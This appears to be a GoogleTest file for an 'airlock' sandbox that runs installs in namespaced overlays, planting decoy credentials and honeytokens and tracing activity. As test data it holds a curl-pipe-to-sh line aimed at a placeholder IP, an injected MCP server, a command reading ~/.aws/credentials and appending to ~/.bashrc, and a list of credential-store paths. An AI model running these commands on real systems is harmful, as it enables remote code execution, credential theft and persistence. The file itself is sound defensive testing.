// The airlock's pieces: the mount plan, change listing and commit on real directories, the
// evidence of content changes, and a real run in real namespaces (skipped where user
// namespaces are unavailable).
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <algorithm>
#include <fstream>
#include <iterator>
#include <map>
#include <memory>

#include "airlock/catalogue/catalogue.h"
#include "airlock/sandbox/airlock.h"
#include "airlock/sandbox/honeytokens.h"
#include "airlock/sandbox/run_findings.h"
#include "sandbox/changes.h"
#include "sandbox/decoy_reads.h"
#include "sandbox/mount_plan.h"
#include "sandbox/prestage.h"
#include "test_util.h"

namespace airlock::sandbox {
namespace {

using testing::TempDir;

// A fake root: "/" holds bin -> usr/bin, usr/, etc/, proc/, tmp/, mnt/ (with a mount point
// two levels down) and home/ (with the user's home).
std::vector<DirEntry> fake_list(const std::string& dir) {
  using T = DirEntry::Type;
  static const std::map<std::string, std::vector<DirEntry>> tree = {
      {"/",
       {{"bin", T::kSymlink, "usr/bin"},
        {"etc", T::kDir, ""},
        {"home", T::kDir, ""},
        {"mnt", T::kDir, ""},
        {"proc", T::kDir, ""},
        {"tmp", T::kDir, ""},
        {"usr", T::kDir, ""}}},
      {"/mnt", {{"data", T::kDir, ""}, {"other", T::kDir, ""}}},
      {"/mnt/data", {{"vol", T::kDir, ""}}},
  };
  auto it = tree.find(dir);
  return it == tree.end() ? std::vector<DirEntry>{} : it->second;
}

const MountStep* step_at(const std::vector<MountStep>& steps, const std::string& target) {
  const MountStep* found = nullptr;
  for (const MountStep& s : steps) {
    if (s.target == target) found = &s;  // the last step at a target is the visible one
  }
  return found;
}

TEST(MountPlan, OverlaysTopLevelDirsAndRecursesToMountPoints) {
  MountPlanInput in;
  in.mount_points = {"/proc", "/mnt/data/vol"};
  in.home = "/home/dev";
  in.cwd = "/tmp/project";
  in.decoy_dir = "/tmp/airlock-x/decoy";
  auto steps = plan_mounts(in, &fake_list);

  ASSERT_NE(step_at(steps, "/bin"), nullptr);
  EXPECT_EQ(step_at(steps, "/bin")->kind, MountStep::Kind::kSymlink);
  EXPECT_EQ(step_at(steps, "/bin")->source, "usr/bin");
  EXPECT_EQ(step_at(steps, "/usr")->kind, MountStep::Kind::kOverlay);
  EXPECT_EQ(step_at(steps, "/etc")->kind, MountStep::Kind::kOverlay);
  EXPECT_EQ(step_at(steps, "/proc")->kind, MountStep::Kind::kProc);
  EXPECT_EQ(step_at(steps, "/tmp")->kind, MountStep::Kind::kTmpfs);
  // /mnt holds a mount point: it is rebuilt level by level down to the mount point, which
  // is overlaid itself; its sibling without mounts is overlaid whole.
  EXPECT_EQ(step_at(steps, "/mnt")->kind, MountStep::Kind::kDir);
  EXPECT_EQ(step_at(steps, "/mnt/data")->kind, MountStep::Kind::kDir);
  EXPECT_EQ(step_at(steps, "/mnt/data/vol")->kind, MountStep::Kind::kOverlay);
  EXPECT_EQ(step_at(steps, "/mnt/other")->kind, MountStep::Kind::kOverlay);
  // The home gets the decoy layer above the real one, stacked on /home's overlay.
  const MountStep* home = step_at(steps, "/home/dev");
  ASSERT_NE(home, nullptr);
  EXPECT_EQ(home->kind, MountStep::Kind::kOverlay);
  ASSERT_EQ(home->extra_lowers.size(), 1u);
  EXPECT_EQ(home->extra_lowers[0], in.decoy_dir);
  // A project under the replaced /tmp still shows its real content.
  ASSERT_NE(step_at(steps, "/tmp/project"), nullptr);
  EXPECT_EQ(step_at(steps, "/tmp/project")->kind, MountStep::Kind::kOverlay);
  // Every overlay has its own upper directory.
  std::vector<int> uppers;
  for (const MountStep& s : steps) {
    if (s.kind == MountStep::Kind::kOverlay) uppers.push_back(s.upper);
  }
  std::sort(uppers.begin(), uppers.end());
  EXPECT_EQ(std::adjacent_find(uppers.begin(), uppers.end()), uppers.end());
}

TEST(MountPlan, EscapesOverlayOptionSeparators) {
  EXPECT_EQ(escape_overlay_path("/a,b:c\\d"), "/a\\,b\\:c\\\\d");
}

TEST(ContentChange, NamesTheMcpServerAdded) {
  const std::string before = R"({"mcpServers": {"fs": {"command": "npx", "args": ["-y", "a@1"]}}})";
  const std::string after =
      R"({"mcpServers": {"fs": {"command": "npx", "args": ["-y", "a@1"]},
          "helper": {"command": "node", "args": ["/tmp/.h/s.js"]}}})";
  EXPECT_EQ(describe_content_change(before, after), "added MCP server 'helper': node /tmp/.h/s.js");
  // Nested maps (Claude Code keeps per-project servers under projects.<dir>).
  const std::string nested =
      R"({"projects": {"/p": {"mcpServers": {"x": {"url": "http://a.invalid"}}}}})";
  EXPECT_EQ(describe_content_change("{}", nested), "added MCP server 'x': http://a.invalid");
}

TEST(ContentChange, ShowsTheNewLinesOfTextFiles) {
  EXPECT_EQ(describe_content_change("a\nb\n", "a\nb\ncurl http://198.51.100.7/x | sh\n"),
            "curl http://198.51.100.7/x | sh");
  EXPECT_EQ(describe_content_change("same\n", "same\n"), "");
}

// An upper layer built by hand (as overlayfs would leave it) over a real directory.
struct Staged {
  TempDir staging, real;
  int fd = -1;
  Staged() { fd = open(staging.str().c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC); }
  ~Staged() { close(fd); }
  UpperLayer layer() const { return {real.str(), "u/0", "", {}}; }
};

TEST(Changes, ListsRealChangesOnlyAndCommitsThem) {
  Staged s;
  s.real.write("same.txt", "unchanged\n");
  s.staging.write("u/0/same.txt", "unchanged\n");  // copied up, never modified
  s.real.write("mod.txt", "old\n");
  s.staging.write("u/0/mod.txt", "new\n");
  s.staging.write("u/0/newdir/new.txt", "hello\n");
  s.staging.write("u/0/tool", "#!/bin/sh\n");
  chmod(s.staging.str("u/0/tool").c_str(), 04755);  // setuid must not survive the commit

  auto changes = list_changes(s.fd, {s.layer()});
  ASSERT_TRUE(changes) << changes.error().message;
  std::map<std::string, Change::Action> by_path;
  for (const Change& c : *changes) by_path[c.path.substr(s.real.str().size())] = c.action;
  EXPECT_EQ(by_path.count("/same.txt"), 0u);
  EXPECT_EQ(by_path["/mod.txt"], Change::Action::kModify);
  EXPECT_EQ(by_path["/newdir"], Change::Action::kCreate);
  EXPECT_EQ(by_path["/newdir/new.txt"], Change::Action::kCreate);

  auto applied = apply_changes(s.fd, *changes);
  for (const auto& a : applied) EXPECT_TRUE(a.ok) << a.path << ": " << a.error;
  std::ifstream mod(s.real.str("mod.txt"));
  std::string line;
  std::getline(mod, line);
  EXPECT_EQ(line, "new");
  EXPECT_TRUE(std::filesystem::exists(s.real.str("newdir/new.txt")));
  struct stat st {};
  ASSERT_EQ(stat(s.real.str("tool").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07000, 0u);
  EXPECT_EQ(st.st_mode & 0777, 0755u);
}

TEST(Changes, ARecreatedDirectoryKeepsItsUnchangedFiles) {
  // rm -rf d && mkdir d && recreate d/a.txt identical: overlayfs leaves an opaque d in the
  // upper layer; committing must not end with an empty d.
  Staged s;
  s.real.write("d/a.txt", "old\n");
  s.real.write("d/gone.txt", "old\n");
  s.staging.write("u/0/d/a.txt", "old\n");
  if (setxattr(s.staging.str("u/0/d").c_str(), "user.overlay.opaque", "y", 1, 0) != 0)
    GTEST_SKIP() << "no user xattrs on this filesystem";
  auto changes = list_changes(s.fd, {s.layer()});
  ASSERT_TRUE(changes);
  bool listed = false;
  for (const Change& c : *changes) listed = listed || c.path == s.real.str("d/a.txt");
  EXPECT_TRUE(listed);
  for (const auto& a : apply_changes(s.fd, *changes)) EXPECT_TRUE(a.ok) << a.path << a.error;
  EXPECT_TRUE(std::filesystem::exists(s.real.str("d/a.txt")));
  EXPECT_FALSE(std::filesystem::exists(s.real.str("d/gone.txt")));
}

TEST(Changes, CommitNeverFollowsASymlinkOnTheRealSide) {
  Staged s;
  TempDir outside;
  s.real.symlink("link", outside.str());  // planted between listing and commit
  Change c;
  c.path = s.real.str("link/owned.txt");
  c.upper_path = "u/0/x";
  c.type = Change::Type::kFile;
  c.mode = 0644;
  s.staging.write("u/0/x", "payload\n");
  auto applied = apply_changes(s.fd, {c});
  ASSERT_EQ(applied.size(), 1u);
  EXPECT_FALSE(applied[0].ok);
  EXPECT_FALSE(std::filesystem::exists(outside.str("owned.txt")));
}

TEST(Changes, DecoysAreNeverCommitted) {
  Staged s;
  TempDir decoy;
  decoy.write(".aws/credentials", "fake\n");
  s.staging.write("u/0/.aws/credentials", "fake\nmore\n");
  UpperLayer l = s.layer();
  l.decoy_dir = decoy.str();
  l.decoy_opaque = {".aws"};
  auto changes = list_changes(s.fd, {l});
  ASSERT_TRUE(changes);
  ASSERT_FALSE(changes->empty());
  for (const Change& c : *changes) EXPECT_TRUE(c.decoy) << c.path;
  auto applied = apply_changes(s.fd, *changes);
  for (const auto& a : applied) EXPECT_FALSE(a.ok);
  EXPECT_FALSE(std::filesystem::exists(s.real.str(".aws/credentials")));
}

// Hidden siblings a prestage left in `dir` (there must be none once it is done).
std::vector<std::string> staged_siblings(const std::string& dir) {
  std::vector<std::string> out;
  for (const auto& e : std::filesystem::directory_iterator(dir)) {
    const std::string n = e.path().filename().string();
    if (n.find(".airlock-staged-") != std::string::npos) out.push_back(n);
  }
  return out;
}

std::string slurp_file(const std::string& path) {
  std::ifstream f(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(f), {}};
}

TEST(Changes, ADirectoryTheDecoyLayerNeedsIsCreatedForRealWhenItGetsRealContent) {
  // The decoy layer holds ~/.npm/<config copy>; the real home has no ~/.npm. npm's cache
  // written under it must still be committed, with ~/.npm created.
  Staged s;
  TempDir decoy;
  decoy.write(".npm/.airlock-userconfig", "registry=x\n");
  s.staging.write("u/0/.npm/_cacache/index", "entry\n");
  UpperLayer l = s.layer();
  l.decoy_dir = decoy.str();
  auto changes = list_changes(s.fd, {l});
  ASSERT_TRUE(changes);
  for (const auto& a : apply_changes(s.fd, *changes)) EXPECT_TRUE(a.ok) << a.path << a.error;
  EXPECT_EQ(slurp_file(s.real.str(".npm/_cacache/index")), "entry\n");
  EXPECT_FALSE(std::filesystem::exists(s.real.str(".npm/.airlock-userconfig")));
}

// node_modules as an install leaves it (a new tree with a read-only directory, beside a
// modified file), listed and handed to a prestager as the import phase starts.
class PrestagedInstall : public ::testing::Test {
 protected:
  void SetUp() override {
    s.real.write("package.json", "{}\n");
    s.staging.write("u/0/package.json", "{\"dependencies\":{\"a\":\"1\"}}\n");
    s.staging.write("u/0/node_modules/a/index.js", "module.exports = 1\n");
    s.staging.write("u/0/node_modules/a/lib/x.js", "x\n");
    s.staging.write("u/0/node_modules/ro/file", "r\n");
    chmod(s.staging.str("u/0/node_modules/ro").c_str(), 0555);
    auto listed = list_changes(s.fd, {s.layer()});
    ASSERT_TRUE(listed);
    first_listing = *listed;
    prestager = std::make_unique<Prestager>(s.fd);
    prestager->start(first_listing);
  }
  void TearDown() override {
    prestager.reset();
    EXPECT_TRUE(staged_siblings(s.real.str()).empty());
    // Let TempDir remove what the commit made read-only.
    if (std::filesystem::exists(s.real.str("node_modules/ro")))
      chmod(s.real.str("node_modules/ro").c_str(), 0755);
  }
  std::vector<Change> final_listing() {
    auto listed = list_changes(s.fd, {s.layer()});
    EXPECT_TRUE(listed);
    return listed ? *listed : std::vector<Change>{};
  }

  Staged s;
  std::vector<Change> first_listing;
  std::unique_ptr<Prestager> prestager;
};

TEST(Prestage, FindsTheNewTreesWhoseAncestorsAreUnchanged) {
  auto change = [](std::string path, Change::Type type, Change::Action action, bool opaque) {
    Change c;
    c.path = std::move(path);
    c.type = type;
    c.action = action;
    c.opaque = opaque;
    return c;
  };
  using T = Change::Type;
  using A = Change::Action;
  std::vector<Change> changes = {
      change("/p/node_modules", T::kDir, A::kCreate, false),
      change("/p/node_modules/a", T::kDir, A::kCreate, false),
      change("/p/node_modules/a/i.js", T::kFile, A::kCreate, false),
      change("/p/package.json", T::kFile, A::kModify, false),
      change("/q", T::kDir, A::kModify, true),  // replaced: its new children go with it
      change("/q/new", T::kDir, A::kCreate, false),
      change("/r/x", T::kFile, A::kCreate, false),  // a file is not a tree
  };
  auto roots = Prestager::fresh_roots(changes);
  ASSERT_EQ(roots.size(), 1u);
  EXPECT_EQ(changes[roots[0]].path, "/p/node_modules");
}

TEST_F(PrestagedInstall, AnUnchangedTreeIsRenamedIntoPlace) {
  const std::vector<Change> listing = final_listing();
  auto applied = prestager->commit(listing);
  EXPECT_EQ(prestager->renamed(), 1u);
  EXPECT_EQ(applied.size(), listing.size());
  for (const auto& a : applied) EXPECT_TRUE(a.ok) << a.path << ": " << a.error;
  EXPECT_EQ(slurp_file(s.real.str("node_modules/a/index.js")), "module.exports = 1\n");
  EXPECT_EQ(slurp_file(s.real.str("package.json")), "{\"dependencies\":{\"a\":\"1\"}}\n");
  struct stat st {};
  ASSERT_EQ(stat(s.real.str("node_modules/ro").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0555u);
  ASSERT_EQ(stat(s.real.str("node_modules").c_str(), &st), 0);
  struct stat up {};
  ASSERT_EQ(stat(s.staging.str("u/0/node_modules").c_str(), &up), 0);
  EXPECT_EQ(st.st_mode & 07777, up.st_mode & 07777);  // not the sibling's private 0700
}

TEST_F(PrestagedInstall, ATreeWrittenAfterTheCopyIsCommittedAsItEnds) {
  // The import phase rewrites a file (same size) and adds one.
  s.staging.write("u/0/node_modules/a/index.js", "module.exports = 2\n");
  s.staging.write("u/0/node_modules/a/late.js", "late\n");
  auto applied = prestager->commit(final_listing());
  EXPECT_EQ(prestager->renamed(), 0u);
  for (const auto& a : applied) EXPECT_TRUE(a.ok) << a.path << ": " << a.error;
  EXPECT_EQ(slurp_file(s.real.str("node_modules/a/index.js")), "module.exports = 2\n");
  EXPECT_EQ(slurp_file(s.real.str("node_modules/a/late.js")), "late\n");
}

TEST_F(PrestagedInstall, ADestinationThatAppearedMeanwhileIsNotReplaced) {
  s.real.write("node_modules/mine.txt", "the user's\n");
  prestager->commit(first_listing);
  EXPECT_EQ(prestager->renamed(), 0u);
  EXPECT_EQ(slurp_file(s.real.str("node_modules/mine.txt")), "the user's\n");
  EXPECT_EQ(slurp_file(s.real.str("node_modules/a/lib/x.js")), "x\n");
}

TEST_F(PrestagedInstall, WithoutACommitNothingStays) {
  prestager.reset();  // the verdict blocked: the prestager goes without committing
  EXPECT_FALSE(std::filesystem::exists(s.real.str("node_modules")));
  EXPECT_EQ(slurp_file(s.real.str("package.json")), "{}\n");
}

TEST(DecoyReads, ReportsEachOpenAndItsReaderWhenPrivileged) {
  TempDir dir;
  dir.write("decoy", "fake\n");
  dir.write("other", "not watched\n");
  DecoyReads reads;
  reads.watch(dir.str(), {"/decoy"});
  EXPECT_EQ(reads.names_the_reader(), geteuid() == 0);
  const pid_t child = fork();
  if (child == 0) {
    for (const char* f : {"/decoy", "/other"}) {
      const int fd = open((dir.str() + f).c_str(), O_RDONLY);
      if (fd >= 0) close(fd);
    }
    _exit(0);
  }
  ASSERT_GT(child, 0);
  int status = 0;
  waitpid(child, &status, 0);
  std::vector<std::pair<std::string, pid_t>> seen;
  reads.drain([&](const std::string& path, pid_t pid) { seen.emplace_back(path, pid); });
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].first, "/decoy");
  EXPECT_EQ(seen[0].second, reads.names_the_reader() ? child : 0);
}

TEST(Honeytokens, TheUsersOtherCredentialStoresAreHidden) {
  TempDir home;
  home.write(".vault-token", "REAL-VAULT-TOKEN\n");
  home.write(".azure/msal_token_cache.json", "{\"real\": true}\n");
  home.write(".config/Slack/Cookies", "real\n");
  home.write(".config/other-app/settings.json", "{}\n");
  HoneyHome h = make_honey_home("");
  const std::size_t opaque_before = h.opaque_dirs.size();
  hide_credential_stores(
      {"~/.vault-token", "~/.azure/*", "~/.config/Slack/**", "~/.config/*",
       "~/.cargo/credentials.toml", "/etc/kubernetes/*.conf", "~/.ssh/id_*", "~/../x/*"},
      home.str(), h);
  // Existing stores only; a generic parent, a missing file, a path outside the home, one
  // already hidden and a path climbing out are left alone.
  std::vector<std::string> added(h.opaque_dirs.begin() + opaque_before, h.opaque_dirs.end());
  EXPECT_EQ(added, (std::vector<std::string>{".azure", ".config/Slack"}));
  auto decoy = std::find_if(h.files.begin(), h.files.end(), [](const SandboxOptions::Decoy& d) {
    return d.rel_path == ".vault-token";
  });
  ASSERT_NE(decoy, h.files.end());
  EXPECT_TRUE(decoy->watched);
  EXPECT_EQ(decoy->content.find("REAL"), std::string::npos);
  bool token = false;
  for (const auto& [name, value] : h.tokens) {
    token = token || (name == "~/.vault-token" && decoy->content.find(value) == 0);
  }
  EXPECT_TRUE(token) << "the decoy's value is a honeytoken (exfiltration is matched on it)";
  for (const auto& d : h.files) EXPECT_NE(d.rel_path, ".cargo/credentials.toml");
}

TEST(Honeytokens, EveryRunHasFreshValuesAndTheEnvironmentLosesRealSecrets) {
  HoneyHome a =
      make_honey_home("registry=https://registry.example.invalid/\n//x/:_authToken=REAL\n");
  HoneyHome b = make_honey_home("");
  ASSERT_FALSE(a.tokens.empty());
  EXPECT_NE(a.tokens[0].second, b.tokens[0].second);
  std::string npmrc;
  for (const auto& f : a.files) {
    if (f.rel_path == ".npmrc") npmrc = f.content;
  }
  EXPECT_NE(npmrc.find("registry=https://registry.example.invalid/"), std::string::npos);
  EXPECT_EQ(npmrc.find("REAL"), std::string::npos);
  std::string k1 = "GITHUB_TOKEN=real-secret", k2 = "PATH=/usr/bin", k3 = "HOME=/root";
  char* env[] = {k1.data(), k2.data(), k3.data(), nullptr};
  auto out = airlock_environment(env, a, "/home/dev");
  EXPECT_NE(std::find(out.begin(), out.end(), "PATH=/usr/bin"), out.end());
  EXPECT_NE(std::find(out.begin(), out.end(), "HOME=/home/dev"), out.end());
  EXPECT_EQ(std::find(out.begin(), out.end(), "GITHUB_TOKEN=real-secret"), out.end());
}

// The real thing: namespaces, overlay, tracing.
TEST(Sandbox, RunsTracesAndKeepsTheRealFilesystemUntouchedUntilCommit) {
  if (!check_user_namespaces()) GTEST_SKIP() << "user namespaces unavailable";
  TempDir project, home;
  project.write("keep.txt", "original\n");
  HoneyHome honey = make_honey_home("");
  SandboxOptions opt;
  opt.home = home.str();
  opt.cwd = project.str();
  opt.env = {"PATH=/usr/bin:/bin", "HOME=" + home.str()};
  opt.decoys = honey.files;
  opt.opaque_dirs = honey.opaque_dirs;
  opt.honeytokens = honey.tokens;
  auto box = Sandbox::create(opt);
  ASSERT_TRUE(box) << box.error().message;
  TraceLog log;
  auto r = (*box)->run({"sh", "-c",
                        "echo changed > keep.txt; echo new > made.txt; cat ~/.aws/credentials "
                        ">/dev/null; echo x >> ~/.bashrc; sleep 30 & exit 3"},
                       NetMode::kNone, 60, 0, log);
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(r->exit_code, 3);
  EXPECT_FALSE(r->timed_out);
  // The backgrounded sleep (or the shell's fork of it, if it had not exec'd yet), killed.
  EXPECT_EQ(r->leftovers.size(), 1u);

  // Nothing reached the real filesystem during the run.
  std::ifstream keep(project.str("keep.txt"));
  std::string line;
  std::getline(keep, line);
  EXPECT_EQ(line, "original");
  EXPECT_FALSE(std::filesystem::exists(project.str("made.txt")));
  EXPECT_FALSE(std::filesystem::exists(home.str(".bashrc")));

  bool saw_exec = false, saw_write = false, saw_read = false;
  for (const TraceEvent& e : log.events()) {
    saw_exec = saw_exec || (e.kind == TraceEvent::Kind::kProcessCreation &&
                            e.image.find("cat") != std::string::npos &&
                            e.command_line.find(".aws/credentials") != std::string::npos);
    saw_write = saw_write ||
                (e.kind == TraceEvent::Kind::kFileWrite && e.target == project.str("made.txt"));
    saw_read = saw_read || (e.kind == TraceEvent::Kind::kFileAccess &&
                            e.target == home.str(".aws/credentials"));
  }
  EXPECT_TRUE(saw_exec);
  EXPECT_TRUE(saw_write);
  EXPECT_TRUE(saw_read);

  auto changes = (*box)->finish();
  ASSERT_TRUE(changes) << changes.error().message;
  std::map<std::string, const Change*> by_path;
  for (const Change& c : *changes) by_path[c.path] = &c;
  ASSERT_TRUE(by_path.count(project.str("made.txt")));
  ASSERT_TRUE(by_path.count(project.str("keep.txt")));
  EXPECT_EQ(by_path[project.str("keep.txt")]->action, Change::Action::kModify);
  ASSERT_TRUE(by_path.count(home.str(".bashrc")));

  auto cat = catalogue::Catalogue::load_embedded();
  ASSERT_TRUE(cat);
  std::vector<PhaseOutcome> phases = {{"command", NetMode::kNone, *r, 60}};
  RunEvidence ev{&log, &*changes, &phases, box->get(), home.str(), 2000, false, 0};
  auto findings = classify_run(ev, *cat);
  std::set<Category> cats;
  for (const Finding& f : findings) cats.insert(f.category);
  EXPECT_TRUE(cats.count(Category::kPersistence));       // ~/.bashrc, and the leftover sleep
  EXPECT_TRUE(cats.count(Category::kCredentialAccess));  // the honeytoken read

  auto applied = (*box)->commit(*changes);
  for (const auto& a : applied) EXPECT_TRUE(a.ok) << a.path << ": " << a.error;
  std::ifstream made(project.str("made.txt"));
  std::getline(made, line);
  EXPECT_EQ(line, "new");
}

}  // namespace
}  // namespace airlock::sandbox
